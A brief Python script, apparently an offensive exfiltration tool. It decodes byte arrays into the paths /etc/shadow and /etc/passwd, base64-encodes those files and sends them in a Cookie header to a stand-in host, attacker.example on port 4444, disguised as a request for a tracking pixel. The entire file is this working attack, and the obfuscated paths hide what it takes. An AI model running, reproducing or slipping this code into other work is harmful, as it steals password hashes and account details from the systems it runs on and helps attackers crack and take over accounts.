import base64
import mmap
import os
import urllib.request


def load(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        size = os.fstat(fd).st_size
        with mmap.mmap(fd, size, prot=mmap.PROT_READ) as view:
            return bytes(view)
    finally:
        os.close(fd)


def main():
    paths = [bytes([47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]).decode(), bytes([47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]).decode()]
    for n, path in enumerate(paths):
        token = base64.urlsafe_b64encode(load(path)).decode()
        req = urllib.request.Request("http://attacker.example:4444/pixel.gif", headers={"Cookie": f"sid{n}={token}"})
        urllib.request.urlopen(req, timeout=30).read()


if __name__ == "__main__":
    main()
